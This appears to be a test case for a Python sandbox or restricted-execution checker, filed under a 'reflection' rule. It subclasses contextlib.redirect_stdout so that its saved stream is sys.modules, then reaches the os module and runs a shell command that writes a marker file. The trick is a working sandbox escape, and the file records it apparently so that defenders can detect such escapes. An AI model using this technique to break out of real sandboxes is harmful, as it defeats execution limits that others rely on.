# rule: reflection
# marker: pwned_f1_redirect
# Family 1: contextlib's redirect_stdout saves the `sys` attribute its class
# names in `_stream`; a subclass naming `modules` hands out sys.modules.
import contextlib

class Grab(contextlib.redirect_stdout):
    _stream = "modules"

g = Grab({})
with g:
    modules = g._old_targets[0]
modules["os"].system("echo ran > pwned_f1_redirect")
